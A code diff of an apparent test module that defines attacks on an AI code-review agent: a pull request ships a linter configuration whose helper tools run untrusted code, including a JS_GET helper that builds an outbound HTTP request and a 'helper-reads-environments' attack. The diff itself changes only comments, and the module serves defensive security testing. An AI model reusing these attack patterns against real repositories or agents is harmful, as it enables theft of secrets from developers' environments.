@@ -7,7 +7,7 @@ import { call, inCode, review } from "./shape.ts";
 
 const RAN = "the-linter-ran";
 
-/** A linter of the default branch that loads its configuration from the tree, as some do. */
+/** Linter of the default branch that loads its configuration from the tree, as some linters do. */
 export const LINTER: CommitFiles = {
   ".ai/review-tools.json": JSON.stringify({
     helpers: [
@@ -26,13 +26,16 @@ export const LINTER: CommitFiles = {
   },
 };
 
-/** The linter was run: otherwise nothing is proven. Of a flood only its end may be left. */
+/**
+ * Checks that the linter ran, as otherwise the attack proves nothing. Of a flood, only the end may
+ * remain.
+ */
 export const linterRan = ({ requests }: Evidence): string | undefined =>
   requests.some(({ rest }) => rest.includes(`${RAN}\n`) || /(?:A{32}\s){3}/.test(rest))
     ? undefined
     : "the helper tool did not run";
 
-/** What the configuration of the linter, shipped by the pull request, does when it is loaded. */
+/** Creates an attack by the linter configuration of the pull request when it is loaded. */
 function loaded(name: string, wants: string, script: (facts: Facts) => string): Attack {
   return {
     name,
@@ -52,7 +55,7 @@ function loaded(name: string, wants: string, script: (facts: Facts) => string): 
 
 const JS_GET = (url: string): string => `require("http").get("${url}").on("error",()=>{})`;
 
-/** Code of a stranger inside of a helper tool. */
+/** Attacks with untrusted code inside a helper tool. */
 export const HELPER_CODE_EXECUTION: readonly Attack[] = [
   loaded(
     "helper-reads-environments",
